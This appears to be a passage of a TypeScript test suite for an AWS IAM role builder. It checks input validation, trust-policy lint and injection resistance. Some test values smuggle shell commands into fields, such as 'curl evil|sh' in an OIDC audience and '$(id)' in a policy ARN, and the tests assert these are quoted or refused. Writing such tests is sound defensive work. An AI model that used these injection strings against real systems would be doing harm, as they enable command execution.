    ['GitHub environment with *', { trust: [{ type: 'github', repository: 'o/r', environment: 'p*' }] }, 'trust', /not a GitHub environment name \(no wildcards, colons/],
    ['bad EKS issuer', { trust: [{ type: 'eks', issuer: 'https://example.com/id/X', namespace: 'ns', serviceAccount: 'sa' }] }, 'trust', /not an EKS OIDC issuer, like oidc\.eks\..*describe-cluster/],
    ['upper-case namespace', { trust: [{ type: 'eks', issuer: EKS_ISSUER, namespace: 'Ns', serviceAccount: 'sa' }] }, 'trust', /Kubernetes namespace name: up to 63 lower-case letters/],
    ['service account *', { trust: [{ type: 'eks', issuer: EKS_ISSUER, namespace: 'ns', serviceAccount: '*' }] }, 'trust', /service account name.*no wildcards/],
    ['GitLab project with *', { trust: [{ type: 'gitlab', project: 'g/*' }] }, 'trust', /Name one project/],
    ['GitLab project without group', { trust: [{ type: 'gitlab', project: 'p' }] }, 'trust', /like my-group\/my-project/],
    ['SAML ARN of an OIDC provider', { trust: [{ type: 'saml', providerArn: `arn:aws:iam::${ACCOUNT}:oidc-provider/x` }] }, 'trust', /not a SAML provider ARN, like arn:aws:iam::\d{12}:saml-provider\//],
    ['bad OIDC issuer', { trust: [{ type: 'oidc', issuer: 'not a url', audience: 'a', subject: 's' }] }, 'trust', /not an OIDC issuer URL, like https:\/\//],
    ['wildcard-only OIDC subject', { trust: [{ type: 'oidc', issuer: 'token.example.com', audience: 'a', subject: '*' }] }, 'trust', /subject of only wildcards/],
    ['empty OIDC audience', { trust: [{ type: 'oidc', issuer: 'token.example.com', audience: ' ', subject: 's' }] }, 'trust', /Give the audience/],
    ['service without .amazonaws.com', { trust: [{ type: 'service', services: ['lambda'] }] }, 'trust', /not a service principal, like lambda\.amazonaws\.com/],
    ['no trust at all', { trust: [] }, 'trust', /Say who can assume the role/],
    ['OIDC trust without the account', { account: undefined }, 'account', /Give the role's account id: the trust policy names the OIDC provider/],
    ['role trust without the account', { account: undefined, trust: [caller] }, 'account', /Give the role's account id: the trusted account's policy names the role's ARN/],
    ['account trust with neither MFA nor ExternalId', { trust: [{ type: 'account', accounts: [TRUSTED] }] }, 'trust', /Require MFA \(people\), an ExternalId \(a third party\), or name the roles/],
  ];
  for (const [label, change, field, message] of CASES) {
    it(`${label}: ${field === undefined ? 'accepted' : `refused by ${field}`}`, () => {
      const result = buildRole({ ...base, ...change }, { randomBytes: FIXED_BYTES });
      if (field === undefined) {
        assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
        return;
      }
      assert.ok(!result.ok, 'expected a problem');
      assert.deepEqual(
        result.problems.map((p) => p.field),
        [field],
        JSON.stringify(result.problems),
      );
      const [problem] = result.problems;
      assert.ok(problem.message.trim().length > 0);
      assert.match(problem.message, /[.?]$/, 'a message is a sentence');
      if (message) assert.match(problem.message, message);
    });
  }
});

describe('buildRole: the harness can fail', () => {
  it('a built GitHub trust policy with its sub condition removed is reported by our lint', () => {
    const result = build({ name: 'Deploy', account: ACCOUNT, trust: [{ type: 'github', repository: 'o/r', branch: 'main' }] });
    const trust = trustOf(result);
    const condition = trust.Statement[0].Condition?.StringEquals ?? {};
    delete condition['token.actions.githubusercontent.com:sub'];
    const tampered = JSON.stringify(trust, null, 2);
    const found = lintProblems(ROLE_FILES.trust, tampered);
    assert.ok(found.length > 0, 'a trust without sub must be reported');
    assert.ok(found.some((f) => /sub/.test(f)), found.join('\n'));
  });

  it('an account trust with the MFA condition removed is reported', () => {
    const trust = trustOf(build({ name: 'Audit', account: ACCOUNT, trust: [{ type: 'account', accounts: [TRUSTED] }], mfa: true }));
    delete trust.Statement[0].Condition;
    assert.ok(lintProblems(ROLE_FILES.trust, JSON.stringify(trust, null, 2)).length > 0);
  });
});

/** Regressions: builder bugs found while writing these tests, fixed since. */
describe('buildRole: review regressions', () => {
  it(
    'a source-aware service without the account is refused, not silently left without aws:SourceAccount',
    () => {
      const result = buildRole({ name: 'R', trust: [{ type: 'service', services: ['config.amazonaws.com'] }] }, { randomBytes: FIXED_BYTES });
      assert.ok(!result.ok || result.warnings.length > 0 || JSON.stringify(trustOf(result)).includes('aws:SourceAccount'));
    },
  );

  it(
    'the README workflow quotes the branch (a,b is one branch, not two; ] and ! keep the YAML valid)',
    () => {
      for (const branch of ['a,b', 'a]b', '!x']) {
        const readme = readmeOf(build({ name: 'D', account: ACCOUNT, trust: [{ type: 'github', repository: 'o/r', branch }] }));
        assert.ok(readme.includes(`branches: [${JSON.stringify(branch)}]`), branch);
      }
    },
  );

  it('duplicate accounts, services and resources are written once', () => {
    const result = build({
      name: 'R',
      account: ACCOUNT,
      mfa: true,
      trust: [
        { type: 'account', accounts: [TRUSTED, TRUSTED] },
        { type: 'service', services: ['ec2.amazonaws.com', 'ec2.amazonaws.com'] },
      ],
      actions: ['s3:GetObject'],
      resources: ['arn:aws:s3:::b/*', 'arn:aws:s3:::b/*'],
    });
    const [account, service] = trustOf(result).Statement;
    assert.equal(account.Principal?.AWS, `arn:aws:iam::${TRUSTED}:root`);
    assert.equal(service.Principal?.Service, 'ec2.amazonaws.com');
    assert.equal(policyOf(result, ROLE_FILES.permissions).Statement[0].Resource, 'arn:aws:s3:::b/*');
  });

  it('a ? in an OIDC subject or audience is refused or written with StringLike', () => {
    for (const trust of [
      { type: 'oidc', issuer: 'token.example.com', audience: 'a', subject: 'user:4?' },
      { type: 'oidc', issuer: 'token.example.com', audience: 'a*', subject: 'user:42' },
    ] as TrustedEntity[]) {
      const result = buildRole({ name: 'R', account: ACCOUNT, trust: [trust] }, { randomBytes: FIXED_BYTES });
      assert.ok(!result.ok || result.warnings.length === 0, JSON.stringify(result.ok && result.warnings));
    }
  });

  it('no MFA problem with an empty caller list when no trust was given', () => {
    const found = problems({ name: 'R', account: ACCOUNT, trust: [], mfa: true });
    assert.deepEqual(
      found.map((p) => p.field),
      ['trust'],
    );
  });
});

/** Regressions of the review of the builder: each input once produced an unsafe file or a silent mistake. */
describe('buildRole: second review regressions', () => {
  const deployer = (extra: Partial<RoleAnswers>): RoleAnswers => ({ name: 'Deployer', account: ACCOUNT, trust: [{ type: 'github', repository: 'o/r', branch: 'main' }], ...extra });

  it('a customer managed policy ARN that would break a command or a template is refused', () => {
    for (const arn of ['arn:aws:iam::111122223333:policy/a b;$(id)', 'arn:aws:iam::111122223333:policy/x${y}', 'arn:aws:iam::111122223333:policy/p #c', 'arn:aws:iam::111122223333:policy/a"b']) {
      assert.match(problems(deployer({ managedPolicies: [arn] }))[0]?.message ?? '', /is not a managed policy ARN/, arn);
    }
  });

  it('a "*" among the resources does not widen actions that have ARNs of their own', () => {
    const result = build(deployer({ actions: ['sts:GetCallerIdentity', 's3:GetObject'], resources: ['*', 'arn:aws:s3:::b/*'] }));
    const statements = policyOf(result, ROLE_FILES.permissions).Statement;
    assert.deepEqual(
      statements.map((s) => [s.Action, s.Resource]),
      [
        ['sts:GetCallerIdentity', '*'],
        ['s3:GetObject', 'arn:aws:s3:::b/*'],
      ],
    );
  });

  it('a resource with a ${...} placeholder is refused by the core too (the CLI path)', () => {
    assert.match(problems(deployer({ actions: ['sqs:SendMessage'], resources: ['arn:aws:sqs:${Region}:111122223333:q'] }))[0]?.message ?? '', /replace \$\{Region\}/);
  });

  it('answers of the wrong shape are one clear problem, never a crash', () => {
    const bad: unknown[] = [
      { name: 5, trust: [] },
      { name: 'R', trust: [null] },
      { name: 'R', trust: [{ type: 'foo' }] },
      { name: 'R', trust: [{ type: 'account', accounts: 'x' }] },
      { name: 'R', trust: [{ type: 'account', accounts: [ACCOUNT] }], mfa: true, actions: 's3:GetObject' },
      { name: 'R', trust: [{ type: 'account', accounts: [ACCOUNT] }], externalId: 12345678 },
      { name: 'R', trust: [{ type: 'account', accounts: [ACCOUNT] }], externalId: null },
    ];
    for (const answers of bad) {
      const result = buildRole(answers as RoleAnswers);
      assert.equal(result.ok, false, JSON.stringify(answers));
      if (!result.ok) assert.equal(result.problems.length, 1, JSON.stringify(result.problems));
    }
  });

  it('IAM-built-in issuers and ports are refused as "other OIDC" providers', () => {
    for (const issuer of ['https://accounts.google.com', 'cognito-identity.amazonaws.com']) {
      assert.match(problems({ name: 'R', account: ACCOUNT, trust: [{ type: 'oidc', issuer, audience: 'a', subject: 's' }] })[0]?.message ?? '', /built into IAM/);
    }
    assert.match(problems({ name: 'R', account: ACCOUNT, trust: [{ type: 'oidc', issuer: 'https://token.example.com:8443', audience: 'a', subject: 's' }] })[0]?.message ?? '', /no port/);
  });

  it('a trust policy over the 4,096 characters IAM accepts is refused; 11 managed policies are a warning', () => {
    const arns = Array.from({ length: 120 }, (_, i) => `arn:aws:iam::${TRUSTED}:role/Role${i}`);
    assert.match(problems({ name: 'R', account: ACCOUNT, trust: [{ type: 'principal', arns }] })[0]?.message ?? '', /at most 4,096/);
    const policies = Array.from({ length: 11 }, (_, i) => `arn:aws:iam::${ACCOUNT}:policy/P${i}`);
    const result = build(deployer({ managedPolicies: policies }));
    assert.match(result.warnings.join(' '), /11 managed policies: IAM allows 10/);
  });

  it('answers with shell or YAML meaning stay one word, one scalar', () => {
    const result = build({ name: 'R', account: ACCOUNT, trust: [{ type: 'oidc', issuer: 'https://token.example.com', audience: 'x; curl evil|sh', subject: 'user:1' }] });
    assert.ok(file(result, ROLE_FILES.readme).includes("--client-id-list 'x; curl evil|sh'"));
    for (const value of ['prod\n```', 'a`b', '${aws:username}', "it's"]) {
      assert.equal(problems(deployer({ trust: [{ type: 'github', repository: 'o/r', environment: value }] })).length, 1, value);
      assert.equal(problems({ name: 'R', account: ACCOUNT, trust: [{ type: 'oidc', issuer: 'token.example.com', audience: 'a', subject: value }] }).length, 1, value);
    }
  });
});
